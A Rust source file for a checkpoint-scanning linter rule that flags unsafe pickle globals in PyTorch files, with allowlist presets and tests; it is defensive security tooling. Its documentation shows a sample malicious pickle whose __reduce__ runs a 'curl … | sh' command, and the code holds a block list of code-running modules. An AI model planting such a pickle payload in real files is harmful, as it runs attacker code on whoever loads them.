use crate::finding::{Draft, GlobalRef};
use crate::presets::{covering, Covering};
use crate::rule::{declare_rule, Context};
use crate::settings::RuleSettings;
use crate::text::bounded_name;
use tensorplay_engine::pickle::UnsafeGlobal;
use tensorplay_engine::{Checkpoint, Error as ReadError};

declare_rule!(UnsafeGlobalRule {
    code: "TP501",
    name: "unsafe-global",
    severity: Error,
    reads_bytes: false,
    tags: ["security", "pickle"],
    summary: "A pickle references a global outside the allowlist (never executed).",
    doc: "\
What it checks
  Every global a pickle in the checkpoint names (GLOBAL, STACK_GLOBAL, INST, copyreg
  extensions), against PyTorch's `weights_only` allowlist: tensor rebuild functions,
  OrderedDict, dtypes, storage classes, torch.device and the like. tensorplay never imports
  or calls any of them; it reports each one with the archive member and byte position.

Why it matters
  `torch.load(..., weights_only=False)` (the default before torch 2.6, and what many
  loaders still pass) imports and calls whatever the pickle names: `os.system`,
  `builtins.exec`, `importlib.import_module`. A checkpoint is code.
  Whole-module pickles (`torch.save(model)`) also land here: loading them needs the class's
  code.

Example
  class Evil: __reduce__ = lambda self: (os.system, ('curl … | sh',))
  torch.save({'w': w, 'x': Evil()}, 'model.pt')   # references posix.system

How to fix
  Do not load the file with weights_only=False. Re-save a plain state_dict from a trusted
  environment, or convert it to safetensors.

Allowing a global
  A training checkpoint often holds plain data: `argparse.Namespace`, numpy scalars
  (`numpy._core.multiarray.scalar` with `numpy.dtype`). If the file is trusted to hold
  them, list each exact name, as this rule reports it, in tensorplay.toml:
    [pickle]
    allow_globals = [\"argparse.Namespace\", \"numpy._core.multiarray.scalar\", \"numpy.dtype\"]
  the way `torch.serialization.add_safe_globals` lets torch.load(weights_only=True) accept
  them. Exact names only, no patterns; modules that run code or commands (os, posix,
  subprocess, builtins, importlib, …) cannot be listed. An allowed global is still never
  imported or called; it is only no longer reported, and the report lists it.

Allowing a library's files
  Some libraries write pickles torch refuses and reload them with their own allowlist:
  transformers' Trainer (rng_state.pth), accelerate (random_states_*.pkl), timm (training
  checkpoints with argparse args), torchao (quantized tensors), PyG (datasets' data.pt),
  scikit-learn models pickled by joblib. Each has a preset: exactly the globals that
  library's loader accepts (skops's trusted types for scikit-learn), generated from it at a
  pinned version:
    [pickle]
    allow_presets = [\"transformers-trainer\"]   # accelerate, timm, torchao, pyg, sklearn
  When every global a file names outside the allowlist lies in a preset, the message names
  the library and the preset; one global more stays reported.",
    check: check,
    read_failure: read_failure,
});

fn check(ctx: &Context<'_>, out: &mut Vec<Draft>) {
    let flagged: Vec<&UnsafeGlobal> = ctx
        .ckpt
        .unsafe_globals
        .iter()
        .filter(|g| !ctx.settings.global_allowed(&g.module, &g.name))
        .collect();
    // The file's flagged globals once each, as a preset lists them: when one preset (or
    // more) holds them all, the file is likely what that library writes and reloads with
    // its own allowlist, and the message names the preset instead of each global.
    let mut names: Vec<String> = flagged
        .iter()
        .map(|g| format!("{}.{}", g.module, g.name))
        .collect();
    names.sort_unstable();
    names.dedup();
    let presets = covering(names.iter().map(String::as_str));
    out.extend(flagged.into_iter().map(|g| draft(g, &presets)));
}

/// A refused file's pickles still named their globals before the refusal: a loader that got
/// that far imported and called them (CPython runs every opcode before the one it rejects).
/// Each distinct global once per member, at its first place there, and at most
/// [`REFUSED_NAMED`] of them: the refusal's own message counts the rest.
fn read_failure(error: &ReadError) -> Vec<Draft> {
    let mut seen = std::collections::HashSet::new();
    error
        .unsafe_globals()
        .iter()
        .filter(|g| seen.insert((g.module.as_str(), g.name.as_str(), g.member.as_str())))
        .take(REFUSED_NAMED)
        .map(|g| draft(g, &[]))
        .collect()
}

/// How many distinct globals of a refused file become findings of their own.
const REFUSED_NAMED: usize = 20;

/// The finding of one global; `presets` hold every flagged global of its file (smallest
/// first), empty when none does.
fn draft(g: &UnsafeGlobal, presets: &[Covering]) -> Draft {
    {
        let whole = format!("{}.{}", shown(&g.module), shown(&g.name));
        let full = bounded_name(&whole);
        // The entry that would accept it, only for a name config can hold (whole, as written).
        let allow = if !presets.is_empty() {
            preset_hint(presets)
        } else if runs_code(&full) || full != format!("{}.{}", g.module, g.name) {
            String::new()
        } else {
            format!(
                "; if the file is trusted to hold it, accept it in tensorplay.toml with [pickle] allow_globals = [\"{full}\"]"
            )
        };
        // A torch.export program's string that torch evaluates, recorded as the eval it meets.
        let effect = if full == "sympy.sympify" && g.member.contains("expr_str") {
            "torch.export.load passes it to sympy.sympify, which evaluates it as Python while the file loads, and it is not an expression torch writes"
        } else {
            "loading with weights_only=False would import and call it"
        };
        let global = GlobalRef {
            module: g.module.clone(),
            name: g.name.clone(),
            member: g.member.clone(),
            offset: g.position,
        };
        Draft {
            tensors: Vec::new(),
            storage: None,
            message: format!("{}: {effect}{allow}", subject(&global)),
            fix: "do not load this file with weights_only=False; re-save a plain state_dict from a trusted environment or convert to safetensors".into(),
            global: Some(global),
            template: None,
            payload: g.payload.clone(),
        }
    }
}

/// What a finding's message says first: the global and where the pickle names it
/// (`archive/data.pkl at byte 57 references posix.system`), then `: `, as
/// [`GlobalRef::subject_end`] reads it back.
fn subject(g: &GlobalRef) -> String {
    let whole = format!("{}.{}", shown(&g.module), shown(&g.name));
    format!(
        "{} at byte {} references {}",
        bounded_name(&g.member),
        g.offset,
        bounded_name(&whole)
    )
}

/// The presets that would accept every flagged global of a file, each with what its
/// library does with those globals.
fn preset_hint(presets: &[Covering]) -> String {
    const LEAD: &str = "; every global this file names outside the allowlist is one";
    let each = |p: &Covering| format!("{} ([pickle] allow_presets = [\"{}\"])", p.reader, p.name);
    match presets {
        [] => String::new(),
        [one] => format!(
            "{LEAD} {}: if the file is trusted, accept them in tensorplay.toml with [pickle] allow_presets = [\"{}\"]",
            one.reader, one.name
        ),
        [rest @ .., last] => {
            let rest: Vec<String> = rest.iter().map(each).collect();
            format!(
                "{LEAD} {}, or one {}: if the file is trusted, accept them in tensorplay.toml with the preset of the library that wrote it",
                rest.join(", one "),
                each(last)
            )
        }
    }
}

/// Top-level modules whose globals can run code or commands when a pickle calls them: never
/// accepted by `[pickle] allow_globals`.
const RUNS_CODE: &[&str] = &[
    "__builtin__",
    "builtins",
    "code",
    "codeop",
    "commands",
    "ctypes",
    "functools",
    "importlib",
    "marshal",
    "multiprocessing",
    "nt",
    "operator",
    "os",
    "pickle",
    "_pickle",
    "posix",
    "_posixsubprocess",
    "pty",
    "runpy",
    "shutil",
    "socket",
    "subprocess",
    // sympify and parse_expr evaluate strings.
    "sympy",
    "sys",
    "types",
    "webbrowser",
];

/// Whether `module.name` belongs to a module that can run code or commands.
pub(crate) fn runs_code(global: &str) -> bool {
    let top = global.split('.').next().unwrap_or_default();
    RUNS_CODE.contains(&top)
}

/// The `[pickle] allow_globals` entries the checkpoint's pickles name, sorted, once each.
pub(crate) fn allowed_seen(ckpt: &Checkpoint, settings: &RuleSettings) -> Vec<String> {
    let mut seen: Vec<String> = ckpt
        .unsafe_globals
        .iter()
        .filter(|g| settings.global_allowed(&g.module, &g.name))
        .map(|g| format!("{}.{}", g.module, g.name))
        .collect();
    seen.sort();
    seen.dedup();
    seen
}

/// A name from the file as it may be printed: control, invisible and bidi characters
/// escaped, so a crafted name cannot rewrite the terminal line that reports it. Written into
/// one string: a name may be tens of kilobytes, and one allocation per character made a file
/// of a few hundred such names take seconds.
fn shown(name: &str) -> String {
    let mut out = String::with_capacity(name.len());
    for c in name.chars() {
        if c.is_ascii_graphic() || (c.is_alphanumeric() && !c.is_control()) {
            out.push(c);
        } else {
            out.extend(c.escape_unicode());
        }
    }
    out
}

#[cfg(test)]
mod tests {

    use crate::testing::{checkpoint, codes, findings, storage, tensor};

    /// What a preset accepts is never what `allow_globals` refuses as running code, but the
    /// dict and list constructors PyG registers itself, and `slice`, which a fitted
    /// ColumnTransformer pickles and skops trusts (its SliceNode): each builds a value.
    #[test]
    fn no_preset_names_a_global_that_runs_code_but_value_constructors_libraries_trust() {
        for name in crate::presets::names() {
            let code: Vec<&str> = crate::presets::globals(name)
                .expect("a preset")
                .filter(|g| super::runs_code(g))
                .collect();
            let allowed: &[&str] = match name {
                "pyg" => &["builtins.dict", "builtins.list"],
                "sklearn" => &["builtins.slice"],
                _ => &[],
            };
            assert_eq!(code, allowed, "{name}");
        }
    }
    use tensorplay_engine::pickle::UnsafeGlobal;
    use tensorplay_engine::Device;

    #[test]
    fn a_global_outside_the_allowlist_fires_with_where_it_is() {
        let s = storage(0, 4, "cpu");
        let mut ckpt = checkpoint(vec![tensor("w", &s, &[4], &[1], 0, Device::Cpu)], vec![s]);
        assert!(codes(&ckpt).is_empty());

        ckpt.unsafe_globals.push(UnsafeGlobal {
            module: "posix".into(),
            name: "system".into(),
            member: "archive/data.pkl".into(),
            position: 57,
            payload: String::new(),
        });
        let findings = findings(&ckpt);
        assert_eq!(
            findings.iter().map(|f| f.code.as_str()).collect::<Vec<_>>(),
            ["TP501"]
        );
        assert!(
            findings[0]
                .message
                .starts_with("archive/data.pkl at byte 57 references posix.system"),
            "{}",
            findings[0].message
        );
    }

    /// Every finding splits into its global and the rest, long and escaped names included, so
    /// the human report can list one file's globals under one text.
    #[test]
    fn a_finding_splits_into_its_global_and_the_rest() {
        let s = storage(0, 4, "cpu");
        let mut ckpt = checkpoint(vec![tensor("w", &s, &[4], &[1], 0, Device::Cpu)], vec![s]);
        let long = "m".repeat(5000);
        for (i, (module, name)) in [("posix", "system"), (long.as_str(), "f"), ("a\rb", "c: d")]
            .into_iter()
            .enumerate()
        {
            ckpt.unsafe_globals.push(UnsafeGlobal {
                module: module.into(),
                name: name.into(),
                member: "archive/data.pkl".into(),
                position: 10 * i as u64,
                payload: String::new(),
            });
        }
        let findings = findings(&ckpt);
        assert_eq!(findings.len(), 3);
        for f in &findings {
            let (subject, rest) = f.subject().expect("a subject");
            assert_eq!(format!("{subject}: {rest}"), f.message);
            assert!(
                subject.starts_with("archive/data.pkl at byte "),
                "{subject}"
            );
            assert!(
                rest.starts_with("loading with weights_only=False"),
                "{rest}"
            );
        }
        assert!(findings[0]
            .subject()
            .unwrap()
            .0
            .ends_with("references posix.system"));
        // A message that is not the subject then the rest has none: shown whole.
        let mut other = findings[0].clone();
        other.message = format!("note: {}", other.message);
        assert_eq!(other.subject(), None);
        other.global = None;
        assert_eq!(other.subject(), None);
    }

    #[test]
    fn names_that_could_rewrite_the_terminal_are_escaped() {
        assert_eq!(super::shown("posix"), "posix");
        assert_eq!(super::shown("é_name"), "é_name");
        assert_eq!(super::shown("a\rb"), "a\\u{d}b");
        assert_eq!(super::shown("x\u{202e}y z"), "x\\u{202e}y\\u{20}z");
    }

    fn with_globals(globals: &[(&str, &str)]) -> tensorplay_engine::Checkpoint {
        let s = storage(0, 4, "cpu");
        let mut ckpt = checkpoint(vec![tensor("w", &s, &[4], &[1], 0, Device::Cpu)], vec![s]);
        for (i, (module, name)) in globals.iter().enumerate() {
            ckpt.unsafe_globals.push(UnsafeGlobal {
                module: (*module).into(),
                name: (*name).into(),
                member: "archive/data.pkl".into(),
                position: 10 * i as u64,
                payload: String::new(),
            });
        }
        ckpt
    }

    fn config(text: &str) -> crate::config::Config {
        crate::config::Config::parse(std::path::Path::new("tensorplay.toml"), text).expect("config")
    }

    fn config_problems(text: &str) -> Vec<(usize, String)> {
        match crate::config::Config::parse(std::path::Path::new("tensorplay.toml"), text) {
            Ok(_) => Vec::new(),
            Err(crate::error::Error::Config { problems, .. }) => {
                problems.into_iter().map(|p| (p.line, p.detail)).collect()
            }
            Err(e) => panic!("{e}"),
        }
    }

    #[test]
    fn the_message_names_the_entry_that_would_accept_it_but_never_for_code() {
        let ckpt = with_globals(&[("argparse", "Namespace"), ("posix", "system")]);
        let found = findings(&ckpt);
        assert!(
            found[0].message.ends_with(
                "accept it in tensorplay.toml with [pickle] allow_globals = [\"argparse.Namespace\"]"
            ),
            "{}",
            found[0].message
        );
        assert!(
            found[1].message.ends_with("would import and call it"),
            "{}",
            found[1].message
        );
    }

    #[test]
    fn a_file_whose_globals_lie_in_one_preset_is_told_that_preset() {
        // What timm's CheckpointSaver writes beyond tensors: the training args.
        let ckpt = with_globals(&[("argparse", "Namespace")]);
        let found = findings(&ckpt);
        assert_eq!(found.len(), 1);
        assert!(
            found[0].message.ends_with(
                "every global this file names outside the allowlist is one timm 1.0.31 accepts when it loads its training checkpoints (their argparse args): if the file is trusted, accept them in tensorplay.toml with [pickle] allow_presets = [\"timm\"]"
            ),
            "{}",
            found[0].message
        );
        // torchao's quantized tensor classes, each finding naming the one preset.
        let ckpt = with_globals(&[
            (
                "torchao.dtypes.affine_quantized_tensor",
                "AffineQuantizedTensor",
            ),
            ("torchao.dtypes.utils", "PlainLayout"),
        ]);
        let found = findings(&ckpt);
        assert_eq!(found.len(), 2);
        assert!(found
            .iter()
            .all(|f| f.message.ends_with("allow_presets = [\"torchao\"]")
                && !f.message.contains("allow_globals")));
    }

    #[test]
    fn globals_several_presets_hold_name_each_smallest_first() {
        // A Trainer's rng_state.pth and accelerate's random states name the same numpy
        // globals; so may a joblib file: the message names all three, fewest names first.
        let ckpt = with_globals(&[
            ("numpy._core.multiarray", "_reconstruct"),
            ("numpy", "ndarray"),
            ("numpy", "dtype"),
        ]);
        let message = &findings(&ckpt)[2].message;
        let at = |needle: &str| {
            message
                .find(needle)
                .unwrap_or_else(|| panic!("{needle}: {message}"))
        };
        let trainer = at("transformers 4.57.6's Trainer accepts when it loads its rng_state.pth ([pickle] allow_presets = [\"transformers-trainer\"])");
        let accelerate = at("accelerate 1.15.0's load_state accepts when it loads its random_states_*.pkl ([pickle] allow_presets = [\"accelerate\"])");
        let sklearn = at(", or one skops 0.16.0 trusts in a scikit-learn 1.9.1 model pickled by joblib ([pickle] allow_presets = [\"sklearn\"])");
        assert!(trainer < accelerate && accelerate < sklearn, "{message}");
        assert!(
            message.ends_with(
                "accept them in tensorplay.toml with the preset of the library that wrote it"
            ),
            "{message}"
        );
    }

    #[test]
    fn one_global_outside_every_preset_keeps_the_allow_globals_hint() {
        // The Trainer's globals plus an output path no preset holds: each global is told
        // its own allow_globals entry, as without presets.
        let ckpt = with_globals(&[
            ("numpy._core.multiarray", "_reconstruct"),
            ("numpy", "ndarray"),
            ("pathlib", "PosixPath"),
        ]);
        let found = findings(&ckpt);
        assert_eq!(found.len(), 3);
        for (f, name) in found.iter().zip([
            "numpy._core.multiarray._reconstruct",
            "numpy.ndarray",
            "pathlib.PosixPath",
        ]) {
            assert!(
                f.message
                    .ends_with(&format!("[pickle] allow_globals = [\"{name}\"]")),
                "{}",
                f.message
            );
            assert!(!f.message.contains("allow_presets"), "{}", f.message);
        }
        // A payload beside the Trainer's globals: no preset, and no entry for the payload.
        let ckpt = with_globals(&[("numpy", "ndarray"), ("posix", "system")]);
        let found = findings(&ckpt);
        assert!(found[0]
            .message
            .ends_with("allow_globals = [\"numpy.ndarray\"]"));
        assert!(found[1].message.ends_with("would import and call it"));
    }

    #[test]
    fn globals_already_allowed_leave_the_rest_to_find_its_preset() {
        // pathlib.PosixPath allowed by name: what is left is the Trainer's, and the message
        // names its presets.
        let ckpt = with_globals(&[("numpy", "dtypes.UInt32DType"), ("pathlib", "PosixPath")]);
        let c = config("[pickle]\nallow_globals = [\"pathlib.PosixPath\"]\n");
        let options = crate::options::Options::default();
        let report = crate::audit::audit(&ckpt, "rng_state.pth", &c, &options, None);
        assert_eq!(report.findings.len(), 1);
        let message = &report.findings[0].message;
        assert!(
            message.contains("allow_presets = [\"transformers-trainer\"]"),
            "{message}"
        );
        assert!(
            message.contains("allow_presets = [\"accelerate\"]"),
            "{message}"
        );
        // The sklearn preset has no UInt32DType: it is not named.
        assert!(!message.contains("sklearn"), "{message}");
        // With the preset the file passes.
        let c = config(
            "[pickle]\nallow_globals = [\"pathlib.PosixPath\"]\nallow_presets = [\"accelerate\"]\n",
        );
        let report = crate::audit::audit(&ckpt, "rng_state.pth", &c, &options, None);
        assert!(report.findings.is_empty());
        assert_eq!(
            report.allowed_globals,
            ["numpy.dtypes.UInt32DType", "pathlib.PosixPath"]
        );
    }

    #[test]
    fn allowed_globals_are_exact_names_and_are_listed() {
        let ckpt = with_globals(&[
            ("argparse", "Namespace"),
            ("numpy._core.multiarray", "scalar"),
            ("numpy", "dtype"),
            ("argparse", "Namespace"),
        ]);
        let c = config("[pickle]\nallow_globals = [\"argparse.Namespace\", \"numpy.dtype\"]\n");
        let options = crate::options::Options::default();
        let report = crate::audit::audit(&ckpt, "train.pt", &c, &options, None);
        let messages: Vec<&str> = report.findings.iter().map(|f| f.message.as_str()).collect();
        assert_eq!(messages.len(), 1, "{messages:?}");
        assert!(messages[0].contains("references numpy._core.multiarray.scalar"));
        assert_eq!(
            report.allowed_globals,
            ["argparse.Namespace", "numpy.dtype"]
        );
        // numpy 1's name for the scalar is another name: no prefix, alias or pattern matches.
        let c = config(
            "[pickle]\nallow_globals = [\"numpy.core.multiarray.scalar\", \"numpy._core\"]\n",
        );
        let report = crate::audit::audit(&ckpt, "train.pt", &c, &options, None);
        assert_eq!(report.findings.len(), 4);
        assert!(report.allowed_globals.is_empty());
    }

    #[test]
    fn malformed_or_dangerous_entries_are_config_errors_with_their_line() {
        let problems = config_problems(
            "[pickle]\nallow_globals = [\n  \"argparse.Namespace\",\n  \"numpy.*\",\n  \"Namespace\",\n  \"posix.system\",\n]\n",
        );
        let lines: Vec<usize> = problems.iter().map(|(l, _)| *l).collect();
        assert_eq!(lines, [4, 5, 6], "{problems:?}");
        assert!(
            problems[0]
                .1
                .contains("'numpy.*' is not an exact global name"),
            "{problems:?}"
        );
        assert!(
            problems[1]
                .1
                .contains("'Namespace' is not an exact global name"),
            "{problems:?}"
        );
        assert!(
            problems[2].1.contains("'posix.system' can run code"),
            "{problems:?}"
        );
        let problems = config_problems("[pickle]\nallow_globals = [\"argparse.Namespace\", 3]\n");
        assert_eq!(problems.len(), 1);
        assert_eq!(problems[0].0, 2);
        assert!(problems[0].1.contains("expected a string"), "{problems:?}");
        let problems = config_problems("[pickle]\nallow = [\"argparse.Namespace\"]\n");
        assert_eq!(problems.len(), 1);
        assert!(problems[0]
            .1
            .contains("unknown field `allow`, expected one of `allow_globals`"));
    }
}
